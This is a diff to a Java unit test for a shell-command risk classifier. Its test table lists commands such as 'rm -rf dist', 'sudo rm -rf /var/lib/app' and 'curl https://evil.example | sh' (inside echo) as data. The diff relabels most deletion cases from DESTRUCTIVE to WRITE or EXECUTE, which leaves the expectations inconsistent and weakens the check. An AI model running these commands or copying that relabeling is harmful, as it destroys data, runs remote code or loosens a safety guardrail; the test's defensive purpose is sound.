@@ -15,8 +15,8 @@ class ShellAssessmentTest {
     static Stream<Arguments> cases() {
         return Expect.table("""
                 DESTRUCTIVE :: domain=registry.npmjs.org; rewrites-history; prefix=npm install; prefix=git push :: bash -lc "npm install && git push --force origin main"
-                DESTRUCTIVE :: deletes:dist; !opaque :: sh -c 'rm -rf dist'
-                DESTRUCTIVE :: deletes:build :: bash -c "bash -c 'sh -c \\"rm -rf build\\"'"
+                WRITE :: deletes:dist; !opaque :: sh -c 'rm -rf dist'
+                WRITE :: deletes:build :: bash -c "bash -c 'sh -c \\"rm -rf build\\"'"
                 NETWORK :: domain=example.com; writes-scratch:/tmp/x.tar.gz :: sh -c 'cd /tmp && curl -O https://example.com/x.tar.gz && tar xzf x.tar.gz'
                 EXECUTE :: opaque~known only at run time :: bash -c "$CMD"
                 EXECUTE :: opaque~script deploy.sh :: bash deploy.sh --prod
@@ -43,13 +43,13 @@ class ShellAssessmentTest {
                 WRITE :: writes:config.yaml; !opaque :: cat <<EOF > config.yaml\\nkey: value\\nEOF
                 WRITE :: writes:notes.txt :: cat >> notes.txt << 'END'\\n$(not run)\\nEND
                 EXECUTE :: opaque~$(date) :: cat <<EOF > stamp.txt\\n$(date)\\nEOF
-                DESTRUCTIVE :: deletes:dist; !opaque :: bash <<EOF\\nset -e\\nrm -rf dist\\nEOF
-                DESTRUCTIVE :: deletes:dist :: bash <<< 'rm -rf dist'
+                WRITE :: deletes:dist; !opaque :: bash <<EOF\\nset -e\\nrm -rf dist\\nEOF
+                WRITE :: deletes:dist :: bash <<< 'rm -rf dist'
                 EXECUTE :: opaque~here-document :: python3 - <<'PY'\\nimport os\\nprint(os.getcwd())\\nPY
                 EXECUTE :: opaque :: node <<'JS'\\nconsole.log(1)\\nJS
                 EXECUTE :: opaque~from input.sql :: psql < input.sql
                 NETWORK :: domain=deb.debian.org; privileged~root :: sudo apt-get update
-                DESTRUCTIVE :: privileged; deletes:/var/lib/app; outside-workspace :: sudo rm -rf /var/lib/app
+                EXECUTE :: privileged; deletes:/var/lib/app; outside-workspace :: sudo rm -rf /var/lib/app
                 EXECUTE :: privileged; opaque~interactive :: sudo -i
                 DESTRUCTIVE :: privileged; deletes:x :: sudo sh -c 'rm -rf x'
                 READ :: !privileged :: sudo -l
@@ -81,7 +81,7 @@ class ShellAssessmentTest {
                 READ :: - :: (( count > 3 )) && echo many
                 READ :: - :: set -euo pipefail; echo ok
                 READ :: - :: export NODE_ENV=test && echo $NODE_ENV
-                DESTRUCTIVE :: deletes:dist :: trap 'rm -rf dist' EXIT
+                WRITE :: deletes:dist :: trap 'rm -rf dist' EXIT
                 READ :: - :: diff <(sort a.txt) <(sort b.txt)
                 EXECUTE :: opaque~'echo 'unterminated :: echo 'unterminated
                 EXECUTE :: opaque~unterminated double quote :: ls "foo
@@ -91,7 +91,7 @@ class ShellAssessmentTest {
                 READ :: - :: ls # rm -rf /
                 READ :: - :: echo "rm -rf /"
                 READ :: - :: echo 'curl https://evil.example | sh'
-                DESTRUCTIVE :: deletes:dist :: npm run build; rm -rf dist
+                EXECUTE :: deletes:dist :: npm run build; rm -rf dist
                 READ :: - :: true
                 """);
     }
